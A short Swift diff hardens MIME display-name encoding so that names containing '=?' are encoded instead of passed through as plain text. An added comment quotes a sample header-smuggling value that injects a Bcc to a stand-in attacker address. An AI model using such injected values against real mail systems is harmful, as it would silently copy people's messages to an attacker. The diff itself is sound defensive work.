@@ -101,7 +101,10 @@ public enum MIMEEncoding {
 
     public static func encodeDisplayName(_ name: String) -> String {
         let clean = trimmingWhitespace(sanitizeHeaderValue(name))
-        if isPrintableASCII(clean) {
+        // Text shaped like an encoded word is itself encoded: mail readers decode
+        // `"=?utf-8?q?Bcc:_evil@attacker.example?="` even inside quotes (RFC 2047 says they
+        // must not), while the base64 of it reads back as the literal text.
+        if isPrintableASCII(clean) && !clean.containsBytes("=?") {
             if clean.utf8.allSatisfy(isDisplayNameText) && !clean.containsBytes("=?") {
                 return clean
             }
